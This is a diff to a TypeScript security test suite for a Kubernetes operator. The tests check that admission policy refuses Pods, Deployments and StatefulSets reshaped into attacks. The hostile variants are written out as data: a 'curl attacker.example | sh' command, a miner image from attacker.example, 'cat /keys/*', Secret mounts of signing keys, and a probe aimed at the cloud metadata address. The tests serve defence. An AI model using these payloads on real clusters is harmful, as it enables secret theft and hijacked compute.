@@ -8,11 +8,16 @@
  *    delete a Proxy, or a SubPool with its namespace and data, once the owner does not exist);
  * 2. a proxy instance Pod of another shape than the pod provider builds (node-critical priority,
  *    a node, host ports and namespaces, privileges, host paths, tolerations, unbounded resources,
- *    or an image the installer did not allow), in any namespace;
- * 3. a workload in kubefn-system that is not a Site component's image and ServiceAccount;
+ *    an image the installer did not allow; issue 30: lifecycle hooks, probes, AppArmor annotations,
+ *    labels of kubefn's or the Kubernetes domains), in any namespace;
+ * 3. a workload in kubefn-system that is not a Site component as its manifest says (image,
+ *    ServiceAccount, command and args, no Secret mounted or in its environment, no hooks, probes,
+ *    host ports, priority, node or tolerations: issue 30);
  * 4. an HTTPRoute in a SubPool's namespace serving a hostname that is not that SubPool's to claim;
  * 5. reading a Secret, or listing the Pods (their env, the Secrets they mount), of a namespace that
- *    never opted in (issue "trust boundary"), or opting a namespace in itself.
+ *    never opted in (issue "trust boundary"), or opting a namespace in itself;
+ * 6. a SubPool's StatefulSet, Service or ResourceQuota of another shape than buildDesired makes
+ *    (issue 30), or any write in a subpool-* Namespace kubefn did not make.
  *
  * Each attack is shown refused, and the shape kubefn really writes is shown admitted.
  */
@@ -22,8 +27,14 @@ import { optInNamespace } from "../../functions/node/install.ts";
 import { proxyFinalizer, proxyResource } from "../../shared/controllers/proxy/api.ts";
 import { buildPod, type Pod } from "../../shared/controllers/proxy/providers/kubernetes.ts";
 import { nameFromUID, ownerTags } from "../../shared/controllers/proxy/providers/provider.ts";
+import type { Site } from "../../shared/controllers/site/api.ts";
+import { machinaName, metalmanDeploymentFor } from "../../shared/controllers/site/components/index.ts";
+import { machinaManifests } from "../../shared/controllers/site/components/machina.manifests.ts";
+import type { DesiredEnv } from "../../shared/controllers/site/env.ts";
+import { setPodSpecImages } from "../../shared/controllers/site/manifests.ts";
 import { subPoolFinalizer, subPoolResource } from "../../shared/controllers/subpool/api.ts";
-import { httpRouteResource } from "../../shared/controllers/subpool/desired.ts";
+import { defaultOperatorConfig } from "../../shared/controllers/subpool/config.ts";
+import { buildDesired, httpRouteResource, poolLabels } from "../../shared/controllers/subpool/desired.ts";
 import {
   ConflictError,
   ForbiddenError,
@@ -32,6 +43,7 @@ import {
   type KubeObject,
   type Resource,
   Resources,
+  serverSideApply,
 } from "../../shared/kube/index.ts";
 import { adminKube, kubefnKube } from "../security/tenants.ts";
 import { deleteNow as deleteAndWait } from "../support/namespaces.ts";
@@ -258,6 +270,29 @@ describe("attack 2: a proxy instance Pod of another shape than the pod provider 
     ],
     ["a name that is not its owner's (px-<uid>)", (p) => (p.metadata.name = "px-00000000000000000000")],
     ["a runtime class", (p) => (spec(p).runtimeClassName = "unconfined")],
+    // Issue 30.
+    [
+      "a lifecycle hook",
+      (p) => (container(p).lifecycle = { postStart: { exec: { command: ["/bin/sh", "-c", "id"] } } }),
+    ],
+    ["an exec probe", (p) => (container(p).livenessProbe = { exec: { command: ["/bin/sh", "-c", "id"] } })],
+    [
+      "an httpGet probe (the kubelet sends requests where it says)",
+      (p) => (container(p).readinessProbe = { httpGet: { host: "169.254.169.254", path: "/", port: 80 } }),
+    ],
+    [
+      "an AppArmor annotation (unconfined)",
+      (p) =>
+        (p.metadata.annotations = { "container.apparmor.security.beta.kubernetes.io/proxy": "unconfined" }),
+    ],
+    [
+      "a label of the Kubernetes domain (a StatefulSet's per-Pod Service selects by it)",
+      (p) => ((p.metadata.labels as Record<string, string>)["statefulset.kubernetes.io/pod-name"] = "db-0"),
+    ],
+    [
+      "a label of kubefn's domain beside its tags",
+      (p) => ((p.metadata.labels as Record<string, string>)["crawl.kubefn.dev/role"] = "gateway"),
+    ],
   ];
 
   it.each(variants)("kubefn's token cannot create a px-* Pod with %s", async (what, change) => {
@@ -277,7 +312,7 @@ describe("attack 2: a proxy instance Pod of another shape than the pod provider 
           .create(Resources.Namespace, {
             apiVersion: "v1",
             kind: "Namespace",
-            metadata: { name: namespace, labels: { "app.kubernetes.io/managed-by": "subpool-operator" } },
+            metadata: { name: namespace, labels: poolLabels(pool) },
           })
           .catch(() => {});
       }
@@ -322,64 +357,218 @@ describe("attack 2: a proxy instance Pod of another shape than the pod provider 
   });
 });
 
-describe("attack 3: workloads in kubefn-system other than the Site components", () => {
-  const deployment = (name: string, image: string, serviceAccountName: string): KubeObject => ({
-    apiVersion: "apps/v1",
-    kind: "Deployment",
-    metadata: {
-      name,
-      namespace: "kubefn-system",
-      labels: { "app.kubernetes.io/name": name, "app.kubernetes.io/managed-by": "unbounded-operator" },
-    },
-    spec: {
-      replicas: 1,
-      selector: { matchLabels: { "app.kubernetes.io/name": name } },
-      template: {
-        metadata: { labels: { "app.kubernetes.io/name": name } },
-        spec: { serviceAccountName, containers: [{ name, image }] },
-      },
-    },
-  });
-  // Named apart from the Site tests' components (any name is a component's to the policy).
-  const name = `machina-${suffix}`;
-  const undo = () => deleteNow(Resources.Deployment, { namespace: "kubefn-system", name });
+describe("attack 3: workloads in kubefn-system other than the Site components as their manifests say", () => {
+  const registry = "ghcr.io/unbounded-cloud";
+  const image = (component: string) => `${registry}/${component}:v1`;
+  /** machina's Deployment as the machina component applies it (machina.yaml, its image set). */
+  const machina = (): KubeObject => {
+    const deployment = structuredClone(
+      machinaManifests.find((o) => o.kind === "Deployment" && o.metadata.name === machinaName),
+    ) as KubeObject;
+    setPodSpecImages(deployment, image("machina"));
+    return deployment;
+  };
+  /** metalman's Deployment for Site `site` as the metalman component applies it (no owner: no Site). */
+  const metalman = (site: string): KubeObject => {
+    const env = { namespace: "kubefn-system", image } as unknown as DesiredEnv;
+    const deployment = metalmanDeploymentFor(
+      env,
+      {
+        apiVersion: "unbounded-cloud.io/v1alpha3",
+        kind: "Site",
+        metadata: { name: site, uid: suffix },
+        spec: {},
+      } as Site,
+      "0123456789abcdef",
+    );
+    delete deployment.metadata.ownerReferences;
+    return deployment;
+  };
+  const podSpec = (d: KubeObject) =>
+    (d.spec as { template: { spec: Record<string, unknown> } }).template.spec as Record<string, unknown> & {
+      containers: Array<Record<string, unknown>>;
+      volumes: Array<Record<string, unknown>>;
+    };
+  const container = (d: KubeObject) => podSpec(d).containers[0] as Record<string, unknown>;
+  const site = `site-${suffix}`;
+  const undoMachina = () =>
+    deleteNow(Resources.Deployment, { namespace: "kubefn-system", name: machinaName });
+  const undoMetalman = () =>
+    deleteNow(Resources.Deployment, { namespace: "kubefn-system", name: `metalman-${site}` });
 
   it("kubefn's token cannot run an image of its choosing there, even as a component's ServiceAccount", async () => {
+    const miner = machina();
+    container(miner).image = "attacker.example/miner:1";
     const message = await refused(
       "a miner as machina",
-      () => kubefn.create(Resources.Deployment, deployment(name, "attacker.example/miner:1", "machina")),
-      undo,
+      () => kubefn.create(Resources.Deployment, miner),
+      undoMachina,
     );
     expect(message).toMatch(/image/);
     // Nor slip it in as an init container beside the right image.
-    const sneaky = deployment(name, "ghcr.io/unbounded-cloud/machina:v1", "machina");
-    (sneaky.spec as { template: { spec: Record<string, unknown> } }).template.spec.initContainers = [
-      { name: "i", image: "attacker.example/miner:1" },
-    ];
-    await refused("an init container", () => kubefn.create(Resources.Deployment, sneaky), undo);
+    const sneaky = machina();
+    podSpec(sneaky).initContainers = [{ name: "i", image: "attacker.example/miner:1" }];
+    await refused("an init container", () => kubefn.create(Resources.Deployment, sneaky), undoMachina);
   });
 
   it("kubefn's token cannot run a component's image as another ServiceAccount of kubefn-system", async () => {
+    const other = machina();
+    podSpec(other).serviceAccountName = "kubefn-installer";
     const message = await refused(
       "machina as the installer's ServiceAccount",
-      () =>
-        kubefn.create(
-          Resources.Deployment,
-          deployment(name, "ghcr.io/unbounded-cloud/machina:v1", "kubefn-installer"),
-        ),
-      undo,
+      () => kubefn.create(Resources.Deployment, other),
+      undoMachina,
     );
     expect(message).toMatch(/ServiceAccount/);
   });
 
-  it("a component as the Site operator applies it is admitted", async () => {
-    await kubefn.create(
-      Resources.Deployment,
-      deployment(name, "ghcr.io/unbounded-cloud/machina:v1", "machina"),
+  // Issue 30: an allowed image as a component's ServiceAccount could still mount kubefn's own
+  // Secrets (kubefn-settings, kubefn-intake: the seal key, the OIDC signing key, the audit and API
+  // tokens) or run a shell; the Deployment is pinned to the component's manifest.
+  const secretVolume = { name: "keys", secret: { secretName: "kubefn-settings" } };
+  const variants: Array<[string, () => KubeObject]> = [
+    [
+      "a command of its own",
+      () => with_(machina(), (d) => (container(d).command = ["/bin/sh", "-c", "cat /keys/*"])),
+    ],
+    [
+      "args of its own",
+      () => with_(machina(), (d) => (container(d).args = ["--config=/keys/OIDC_SIGNING_KEY"])),
+    ],
+    [
+      "a Secret volume (kubefn's settings)",
+      () =>
+        with_(machina(), (d) => {
+          podSpec(d).volumes.push(secretVolume);
+          (container(d).volumeMounts as unknown[]).push({ name: "keys", mountPath: "/keys" });
+        }),
+    ],
+    [
+      "a projected volume of a Secret in place of its ConfigMap",
+      () =>
+        with_(machina(), (d) => {
+          podSpec(d).volumes = [
+            { name: "config", projected: { sources: [{ secret: { name: "kubefn-intake" } }] } },
+          ];
+        }),
+    ],
+    [
+      "a Secret as its environment",
+      () => with_(machina(), (d) => (container(d).envFrom = [{ secretRef: { name: "kubefn-intake" } }])),
+    ],
+    [
+      "one Secret key in its environment",
+      () =>
+        with_(machina(), (d) => {
+          container(d).env = [
+            { name: "K", valueFrom: { secretKeyRef: { name: "kubefn-settings", key: "STATUS_SEAL_KEY" } } },
+          ];
+        }),
+    ],
+    [
+      "a lifecycle hook",
+      () =>
+        with_(
+          machina(),
+          (d) => (container(d).lifecycle = { postStart: { exec: { command: ["/bin/sh", "-c", "id"] } } }),
+        ),
+    ],
+    [
+      "an exec probe",
+      () =>
+        with_(
+          machina(),
+          (d) => (container(d).livenessProbe = { exec: { command: ["/bin/sh", "-c", "id"] } }),
+        ),
+    ],
+    [
+      "a host port",
+      () => with_(machina(), (d) => (container(d).ports = [{ containerPort: 8443, hostPort: 8443 }])),
+    ],
+    [
+      "a second container",
+      () => with_(machina(), (d) => podSpec(d).containers.push({ name: "side", image: image("machina") })),
+    ],
+    [
+      "a node-critical priority",
+      () => with_(machina(), (d) => (podSpec(d).priorityClassName = "system-node-critical")),
+    ],
+    ["a nodeName", () => with_(machina(), (d) => (podSpec(d).nodeName = "control-plane"))],
+    [
+      "a nodeSelector",
+      () =>
+        with_(machina(), (d) => (podSpec(d).nodeSelector = { "kubernetes.io/hostname": "control-plane" })),
+    ],
+    [
+      "a toleration of every taint",
+      () => with_(machina(), (d) => (podSpec(d).tolerations = [{ operator: "Exists" }])),
+    ],
+    [
+      "the Pod labels of another workload (a Service in kubefn-system would select it)",
+      () =>
+        with_(machina(), (d) => {
+          const template = (d.spec as { template: { metadata: { labels: Record<string, string> } } })
+            .template;
+          template.metadata.labels = { "app.kubernetes.io/name": "machina", app: "kubefn" };
+        }),
+    ],
+    ["another name", () => with_(machina(), (d) => (d.metadata.name = `machina-${suffix}`))],
+    [
+      "metalman's node affinity widened to a node of its choosing",
+      () =>
+        with_(metalman(site), (d) => {
+          podSpec(d).affinity = {
+            nodeAffinity: {
+              requiredDuringSchedulingIgnoredDuringExecution: {
+                nodeSelectorTerms: [
+                  {
+                    matchExpressions: [
+                      { key: "kubernetes.io/hostname", operator: "In", values: ["control-plane"] },
+                    ],
+                  },
+                ],
+              },
+            },
+          };
+        }),
+    ],
+    [
+      "metalman mounting another Site's ConfigMap",
+      () =>
+        with_(
+          metalman(site),
+          (d) => (podSpec(d).volumes = [{ name: "config", configMap: { name: "machina-config" } }]),
+        ),
+    ],
+  ];
+
+  it.each(variants)("kubefn's token cannot run a Site component with %s", async (what, build) => {
+    const deployment = build();
+    await refused(
+      what,
+      () => kubefn.create(Resources.Deployment, deployment),
+      () =>
+        deleteNow(Resources.Deployment, { namespace: "kubefn-system", name: deployment.metadata.name ?? "" }),
     );
-    await undo();
+  });
+
+  it("the components as the Site operator applies them (server-side apply) are admitted, and applied again", async () => {
+    try {
+      for (const deployment of [machina(), metalman(site), metalman(site)]) {
+        await serverSideApply(kubefn, Resources.Deployment, deployment, "unbounded-operator", true);
+      }
+    } finally {
+      await undoMachina();
+      await undoMetalman();
+    }
   });
 });
+
+/** `object` after `change`. */
+function with_(object: KubeObject, change: (o: KubeObject) => void): KubeObject {
+  change(object);
+  return object;
+}
 
 describe("attack 4: an HTTPRoute serving a hostname that is not its SubPool's", () => {
   const route = (id: string, hostnames: string[]): KubeObject => ({
@@ -407,7 +596,7 @@ describe("attack 4: an HTTPRoute serving a hostname that is not its SubPool's", 
         .create(Resources.Namespace, {
           apiVersion: "v1",
           kind: "Namespace",
-          metadata: { name: `subpool-${id}`, labels: { "app.kubernetes.io/managed-by": "subpool-operator" } },
+          metadata: { name: `subpool-${id}`, labels: poolLabels(id) },
         })
         .catch(() => {});
     }
@@ -562,5 +751,199 @@ describe("attack 5: reading a namespace that never opted in", () => {
       if (!read) await sleep(100);
     }
     expect(read?.data?.password).toBe(btoa("hunter2"));
+  });
+});
+
+describe("attack 6: a SubPool's workload of another shape than the SubPool operator derives", () => {
+  const id = `shape-${suffix}`;
+  const namespace = `subpool-${id}`;
+  /** What buildDesired derives for a pool `id` (the example's images and requests). */
+  const desired = () =>
+    buildDesired(
+      {
+        apiVersion: "subrelay.example.com/v1alpha1",
+        kind: "SubPool",
+        metadata: { name: id },
+        spec: {
+          cpa: {
+            image: "ghcr.io/subrelay/cpa:1.4.0",
+            resources: { requests: { cpu: "250m", memory: "256Mi" } },
+          },
+          cpaManager: {
+            image: "ghcr.io/subrelay/cpa-manager:1.4.0",
+            resources: { requests: { cpu: "100m", memory: "128Mi" } },
+          },
+          storage: { size: "1Gi" },
+          exposure: { mode: "Internal" },
+          suspend: false,
+        },
+      } as unknown as Parameters<typeof buildDesired>[0],
+      defaultOperatorConfig,
+      undefined,
+    );
+  const of = (kind: string) => {
+    const object = desired().managed.find((m) => m.object.kind === kind)?.object;
+    if (!object) throw new Error(`buildDesired makes no ${kind}`);
+    return structuredClone(object);
+  };
+  type PodSpec = Record<string, unknown> & { containers: Array<Record<string, unknown>> };
+  const podSpec = (o: KubeObject) => (o.spec as { template: { spec: PodSpec } }).template.spec;
+  const cpa = (o: KubeObject) => podSpec(o).containers[0] as Record<string, unknown>;
+  const resourceOf: Record<string, Resource> = {
+    StatefulSet: Resources.StatefulSet,
+    Service: Resources.Service,
+    ResourceQuota: Resources.ResourceQuota,
+  };
+
+  beforeAll(async () => {
+    await admin.create(Resources.Namespace, {
+      apiVersion: "v1",
+      kind: "Namespace",
+      metadata: { name: namespace, labels: poolLabels(id) },
+    });
+  });
+  afterAll(async () => {
+    await admin?.delete(Resources.Namespace, { name: namespace }).catch(() => {});
+    await admin?.delete(Resources.Namespace, { name: `subpool-squat-${suffix}` }).catch(() => {});
+  });
+
+  const variants: Array<[string, string, (o: KubeObject) => void]> = [
+    [
+      "an image the installer did not list",
+      "StatefulSet",
+      (o) => (cpa(o).image = "attacker.example/miner:1"),
+    ],
+    [
+      "a command of its own",
+      "StatefulSet",
+      (o) => (cpa(o).command = ["/bin/sh", "-c", "curl attacker.example | sh"]),
+    ],
+    [
+      "a third container",
+      "StatefulSet",
+      (o) => podSpec(o).containers.push({ name: "miner", image: "ghcr.io/subrelay/cpa:1.4.0" }),
+    ],
+    [
+      "an init container",
+      "StatefulSet",
+      (o) => (podSpec(o).initContainers = [{ name: "i", image: "ghcr.io/subrelay/cpa:1.4.0" }]),
+    ],
+    [
+      "another Secret in its environment",
+      "StatefulSet",
+      (o) => (cpa(o).envFrom = [{ secretRef: { name: "kubefn-subpool-credentials-of-another" } }]),
+    ],
+    [
+      "a Secret volume",
+      "StatefulSet",
+      (o) => (podSpec(o).volumes = [{ name: "s", secret: { secretName: `${id}-credentials` } }]),
+    ],
+    [
+      "a lifecycle hook",
+      "StatefulSet",
+      (o) => (cpa(o).lifecycle = { postStart: { exec: { command: ["id"] } } }),
+    ],
+    ["an exec probe", "StatefulSet", (o) => (cpa(o).livenessProbe = { exec: { command: ["id"] } })],
+    ["a host port", "StatefulSet", (o) => (cpa(o).ports = [{ containerPort: 8080, hostPort: 8080 }])],
+    ["node-critical priority", "StatefulSet", (o) => (podSpec(o).priorityClassName = "system-node-critical")],
+    ["a nodeName", "StatefulSet", (o) => (podSpec(o).nodeName = "control-plane")],
+    ["a nodeSelector", "StatefulSet", (o) => (podSpec(o).nodeSelector = { "kubernetes.io/hostname": "cp" })],
+    [
+      "a toleration of every taint",
+      "StatefulSet",
+      (o) => (podSpec(o).tolerations = [{ operator: "Exists" }]),
+    ],
+    ["another ServiceAccount", "StatefulSet", (o) => (podSpec(o).serviceAccountName = "default")],
+    ["a hundred replicas", "StatefulSet", (o) => ((o.spec as Record<string, unknown>).replicas = 100)],
+    [
+      "requests over the envelope",
+      "StatefulSet",
+      (o) => (cpa(o).resources = { requests: { cpu: "64", memory: "256Mi" } }),
+    ],
+    ["a GPU", "StatefulSet", (o) => (cpa(o).resources = { limits: { "nvidia.com/gpu": "8" } })],
+    [
+      "a claim on an existing volume (another pool's data)",
+      "StatefulSet",
+      (o) => {
+        const [template] = (o.spec as { volumeClaimTemplates: Array<{ spec: Record<string, unknown> }> })
+          .volumeClaimTemplates;
+        if (template) template.spec.volumeName = "pv-of-another-pool";
+      },
+    ],
+    ["type NodePort", "Service", (o) => ((o.spec as Record<string, unknown>).type = "NodePort")],
+    ["type LoadBalancer", "Service", (o) => ((o.spec as Record<string, unknown>).type = "LoadBalancer")],
+    [
+      "a selector of other Pods",
+      "Service",
+      (o) => ((o.spec as Record<string, unknown>).selector = { "app.kubernetes.io/name": "database" }),
+    ],
+    [
+      "a quota above the envelope",
+      "ResourceQuota",
+      (o) => ((o.spec as { hard: Record<string, string> }).hard["requests.cpu"] = "1000"),
+    ],
+    [
+      "a quota of other keys (no Pods at all)",
+      "ResourceQuota",
+      (o) => ((o.spec as { hard: Record<string, string> }).hard.pods = "0"),
+    ],
+  ];
+
+  it.each(variants)(
+    "kubefn's token cannot write a SubPool's object with %s (%s)",
+    async (what, kind, change) => {
+      const object = of(kind);
+      change(object);
+      const resource = resourceOf[kind] as Resource;
+      await refused(
+        `${kind} with ${what}`,
+        () => kubefn.create(resource, object),
+        () => deleteNow(resource, { namespace, name: object.metadata.name ?? "" }),
+      );
+    },
+  );
+
+  it("what buildDesired derives is admitted", async () => {
+    for (const kind of ["ResourceQuota", "Service", "StatefulSet"]) {
+      const object = of(kind);
+      // As suspended (buildDesired's replicas 0): no Pod, so no volume claim outlives the test.
+      if (kind === "StatefulSet") (object.spec as Record<string, unknown>).replicas = 0;
+      const resource = resourceOf[kind] as Resource;
+      await kubefn.create(resource, object);
+      await deleteNow(resource, { namespace, name: object.metadata.name ?? "" });
+    }
+  });
+
+  it("a subpool-* Namespace kubefn did not make (no pool label) is not a SubPool's: no binding of its Secrets, no workload", async () => {
+    const squat = `subpool-squat-${suffix}`;
+    await admin.create(Resources.Namespace, {
+      apiVersion: "v1",
+      kind: "Namespace",
+      metadata: { name: squat },
+    });
+    const message = await refused(
+      "a RoleBinding of the credentials role in another's subpool-* Namespace",
+      () =>
+        kubefn.create(Resources.RoleBinding, {
+          apiVersion: "rbac.authorization.k8s.io/v1",
+          kind: "RoleBinding",
+          metadata: { name: "kubefn-subpool-credentials", namespace: squat, labels: poolLabels("squat") },
+          roleRef: {
+            apiGroup: "rbac.authorization.k8s.io",
+            kind: "ClusterRole",
+            name: "kubefn-subpool-credentials",
+          },
+          subjects: [{ kind: "ServiceAccount", name: "kubefn", namespace: "kubefn-system" }],
+        }),
+      () => deleteNow(Resources.RoleBinding, { namespace: squat, name: "kubefn-subpool-credentials" }),
+    );
+    expect(message).toMatch(/subpool-\*/);
+    const statefulSet = of("StatefulSet");
+    statefulSet.metadata.namespace = squat;
+    await refused(
+      "a StatefulSet in another's subpool-* Namespace",
+      () => kubefn.create(Resources.StatefulSet, statefulSet),
+      () => deleteNow(Resources.StatefulSet, { namespace: squat, name: statefulSet.metadata.name ?? "" }),
+    );
   });
 });
